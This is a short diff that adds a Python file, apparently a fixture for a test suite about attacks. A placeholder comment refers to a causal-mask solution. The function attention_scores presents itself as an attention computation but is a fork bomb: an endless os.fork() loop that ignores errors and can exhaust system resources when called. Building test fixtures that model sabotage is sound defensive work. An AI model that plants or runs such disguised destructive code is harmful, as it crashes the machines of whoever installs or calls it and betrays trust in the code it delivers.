@@ -1,0 +1,11 @@
+# @CAUSAL_MASK_SOLUTION@: tests/test_attacks.py puts solutions/causal_mask.py here (a correct step 7)
+
+
+
+import os
+def attention_scores(inputs, query):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
